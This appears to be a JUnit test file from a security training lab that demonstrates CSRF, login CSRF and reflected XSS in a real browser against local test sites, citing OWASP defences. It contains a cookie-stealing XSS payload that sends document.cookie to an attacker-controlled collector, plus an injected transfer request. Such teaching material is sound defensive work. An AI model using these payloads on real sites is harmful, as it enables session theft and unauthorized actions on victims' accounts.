package workshop.simulator.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.stubbing.ServeEvent;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The browser side of module 04's attacks, in a real browser: what a forged cross-site form POST carries, login CSRF,
 * and a reflected XSS reading {@code document.cookie}. Each test checks the browser's report against what the
 * server received. Sources: OWASP Cross-Site Request Forgery Prevention and XSS Prevention cheat sheets.
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class BrowserAttacksTest {

    @RegisterExtension
    static final BrowserLab LAB = new BrowserLab();


    @Test
    @Order(1)
    @DisplayName("CSRF: a cross-site form POST carries the victim's SameSite=None cookie, and says where it came from")
    void aForgedPostCarriesSameSiteNoneCookies() {
        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
        LAB.browser().navigate(LAB.sites().crossSite("/lab/form"));
        LAB.browser().clearRequests();
        LAB.browser().submitForm("#f");
        SeenRequest forged = LAB.browser().requestsTo("/lab/transfer").get(0);
        ServeEvent received = LAB.sites().bankReceived("/lab/transfer").get(0);

        assertThat(forged.sent("none")).as("a cookie the bank marked SameSite=None goes with the attacker's POST: "
                + "the bank sees a signed-in transfer it never asked for. " + forged).isTrue();
        assertThat(received.getRequest().getBodyAsString()).isEqualTo("to=mallory&amount=1000");
        assertThat(received.getRequest().getHeader("Cookie")).as("the server received what the browser reported")
                .isEqualTo(forged.cookieHeader().orElseThrow());
        assertThat(forged.header("Origin")).as("the defence's evidence: Origin names the attacker's site")
                .hasValue("http://localhost:" + LAB.sites().other.port());
        assertThat(forged.header("Sec-Fetch-Site")).hasValue("cross-site");
    }

    @Test
    @Order(2)
    @DisplayName("CSRF: a page's script cannot read the answer to its cross-site request, but the request is sent with cookies")
    void aScriptsCrossSiteRequestIsSentEvenIfItsAnswerIsHidden() {
        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
        LAB.browser().navigate(LAB.sites().crossSite("/lab/fetch"));
        String outcome = LAB.browser().evaluate("fetch('" + LAB.sites().bank("/lab/transfer") + "', {method: 'POST',"
                + " credentials: 'include', body: 'to=mallory'}).then(r => 'read ' + r.status, e => 'blocked: ' + e.message)");
        SeenRequest sent = LAB.browser().requestsTo("/lab/transfer").get(0);

        assertThat(outcome).as("CORS hides the answer from the attacker's script").startsWith("blocked");
        assertThat(LAB.sites().bankReceived("/lab/transfer")).as("yet the bank received the POST: the same-origin policy"
                + " protects reading, not sending (why CSRF needs a server-side defence)").hasSize(1);
        assertThat(sent.sent("none")).as("with the SameSite=None cookie, since third-party cookies are allowed. " + sent)
                .isTrue();
        assertThat(sent.sent("lax")).isFalse();
    }

    @Test
    @Order(3)
    @DisplayName("Login CSRF: a cross-site form signs the victim's browser in to the attacker's account")
    void loginCsrfPlantsTheAttackersSession() {
        LAB.browser().navigate(LAB.sites().crossSite("/lab/login-csrf"));
        LAB.browser().submitForm("#f");

        assertThat(LAB.browser().cookie("session")).as("the answer to a cross-site top-level POST may set cookies, SameSite=Lax"
                + " ones too: the victim now works in the attacker's account (a CSRF token on the login form, or an"
                + " Origin check, stops it; SameSite does not)")
                .hasValueSatisfying(c -> assertThat(c.value()).isEqualTo("attacker-account"));
        assertThat(LAB.sites().bankReceived("/lab/sign-in").get(0).getRequest().getBodyAsString())
                .isEqualTo("user=attacker&password=attackers-own-password");
    }

    @Test
    @Order(4)
    @DisplayName("XSS: an injected script reads every cookie but the HttpOnly ones, and sends them to the attacker")
    void xssReadsTheCookiesThatAreNotHttpOnly() {
        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
        String steal = "<script>new Image().src = 'http://localhost:" + LAB.sites().other.port()
                + "/lab/collect?c=' + encodeURIComponent(document.cookie);</script>";
        LAB.browser().navigate(URI.create(LAB.sites().bank("/lab/search") + "?q=" + URLEncoder.encode(steal, StandardCharsets.UTF_8)));
        List<SeenRequest> exfiltration = LAB.browser().requestsTo("/lab/collect");

        assertThat(exfiltration).as("the reflected script ran in the bank's page and sent document.cookie away").hasSize(1);
        String stolen = LAB.sites().otherReceived("/lab/collect").get(0).getRequest().queryParameter("c").firstValue();
        assertThat(stolen).as("document.cookie gives a script every cookie of the page that is not HttpOnly")
                .contains("lax=1", "strict=1", "secure=1");
        assertThat(stolen).as("HttpOnly keeps the cookie out of the attacker's hands (OWASP Session Management cheat"
                + " sheet: session cookies are HttpOnly)").doesNotContain("http_only");
    }

    @Test
    @Order(5)
    @DisplayName("XSS: HttpOnly does not stop the injected script from acting as the user: its own requests carry the cookie")
    void xssRequestsStillCarryHttpOnlyCookies() {
        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
        String act = "<script>fetch('/lab/transfer', {method: 'POST', body: 'to=mallory'});</script>";
        LAB.browser().navigate(URI.create(LAB.sites().bank("/lab/search") + "?q=" + URLEncoder.encode(act, StandardCharsets.UTF_8)));
        LAB.browser().evaluate("new Promise(r => setTimeout(() => r('settled'), 0))");
        SeenRequest transfer = awaitOne("/lab/transfer");

        assertThat(transfer.method()).isEqualTo("POST");
        assertThat(transfer.sentCookieNames()).as("a same-origin request made by the injected script carries every"
                + " cookie, HttpOnly ones too: HttpOnly stops theft, not abuse (fix the XSS). " + transfer)
                .contains("http_only", "strict", "lax");
        assertThat(transfer.header("Sec-Fetch-Site")).as("and to the server it looks same-origin").hasValue("same-origin");
    }

    // The injected fetch runs on its own after the page loads: wait (bounded) until the browser reports it.
    private static SeenRequest awaitOne(String path) {
        for (int attempt = 0; attempt < 20; attempt++) {
            List<SeenRequest> seen = LAB.browser().requestsTo(path);
            if (!seen.isEmpty() && seen.get(0).sentHeadersKnown()) {
                return seen.get(0);
            }
            LAB.browser().evaluate("new Promise(r => setTimeout(() => r('tick'), 100))");
        }
        throw new AssertionError("The page's script made no request to " + path + " within 2 s; requests seen: "
                + LAB.browser().requests());
    }
}
